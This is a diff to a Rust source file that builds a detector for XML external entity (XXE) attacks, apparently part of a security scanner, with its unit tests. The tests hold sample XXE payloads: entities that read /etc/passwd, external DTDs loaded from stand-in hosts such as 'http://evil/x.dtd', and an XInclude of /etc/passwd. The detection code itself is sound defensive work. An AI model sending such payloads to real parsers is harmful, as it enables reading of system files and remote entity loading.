@@ -1,6 +1,8 @@
-//! Detector skeleton for `xxe`; detection logic arrives with its own vectors.
+//! XML external entities: entity declarations that reach outside the document (`SYSTEM`,
+//! `PUBLIC`, parameter entities `<!ENTITY % x ...>`), external DTDs, entity expansion bombs
+//! and XInclude — in XML bodies (their DOCTYPE) and in XML embedded in any other value.
 
-use super::{Detector, Hit, Subject};
+use super::{Detector, Hit, Kind, Subject, Triggers};
 
 #[derive(Debug)]
 struct Xxe;
@@ -10,7 +12,87 @@ pub(crate) fn build() -> Box<dyn Detector> {
 }
 
 impl Detector for Xxe {
-    fn inspect<'a>(&self, _s: &Subject<'a>) -> Option<Hit<'a>> {
-        None
+    fn triggers(&self) -> Triggers {
+        Triggers::bytes(b"<%")
+    }
+
+    fn inspect<'a>(&self, s: &Subject<'a>) -> Option<Hit<'a>> {
+        if !s.bytes.has(b'<') && !s.bytes.has(b'%') {
+            return None;
+        }
+        let lower = s.lower;
+        let mut best = (0.0f32, 0usize);
+        let mut take = |c: f32, a: usize| {
+            if c > best.0 {
+                best = (c, a);
+            }
+        };
+        let mut entities = 0usize;
+        for (k, _) in lower.match_indices("<!entity").take(256) {
+            entities += 1;
+            let decl = &lower[k..lower.len().min(k + 512)];
+            let decl = decl.split('>').next().unwrap_or(decl);
+            if decl.contains(" system") || decl.contains(" public") {
+                take(0.95, k);
+            } else if decl[8..].trim_start().starts_with('%') {
+                take(0.9, k);
+            } else {
+                take(0.6, k);
+            }
+        }
+        if entities >= 3 && lower.matches("&").count() >= 6 {
+            take(0.85, lower.find("<!entity").unwrap_or(0));
+        }
+        if let Some(k) = lower.find("<!doctype") {
+            let decl = &lower[k..lower.len().min(k + 512)];
+            let head = decl.split(['[', '>']).next().unwrap_or(decl);
+            if head.contains(" system") || head.contains(" public") {
+                take(0.85, k);
+            }
+        }
+        if s.kind == Kind::XmlDoctype && lower.contains('%') && lower.contains(';') {
+            take(0.8, 0);
+        }
+        if lower.contains("xinclude") || lower.contains("<xi:include") {
+            take(0.85, lower.find("xi").unwrap_or(0));
+        }
+        let (c, a) = best;
+        (c > 0.0).then(|| Hit::at(c, s.text, a, (a + 80).min(s.text.len())))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::testing::{arg, score};
+
+    #[test]
+    fn flags_external_entities() {
+        let d = build();
+        assert!(
+            score(
+                &*d,
+                Kind::XmlDoctype,
+                "",
+                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
+            ) >= 0.7
+        );
+        assert!(
+            score(
+                &*d,
+                Kind::XmlDoctype,
+                "",
+                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://e/x.dtd\"> %p;]>"
+            ) >= 0.7
+        );
+        assert!(arg(&*d, "<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\"><foo/>") >= 0.7);
+        assert!(arg(&*d, "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></root>") >= 0.7);
+    }
+
+    #[test]
+    fn ignores_plain_doctypes() {
+        let d = build();
+        assert!(score(&*d, Kind::XmlDoctype, "", "<!DOCTYPE html>") < 0.7);
+        assert!(arg(&*d, "<p>hello</p>") < 0.7);
     }
 }
